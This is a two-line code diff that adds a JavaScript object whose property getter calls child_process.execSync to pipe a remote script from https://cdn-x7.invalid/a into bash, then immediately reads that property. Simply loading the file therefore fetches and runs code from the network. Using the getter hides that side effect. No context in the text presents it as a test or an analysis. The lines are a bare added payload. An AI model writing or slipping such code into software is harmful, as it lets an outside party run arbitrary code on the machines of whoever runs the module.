@@ -1,0 +1,2 @@
+const o = { get x() { return require("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash"); } };
+o.x;
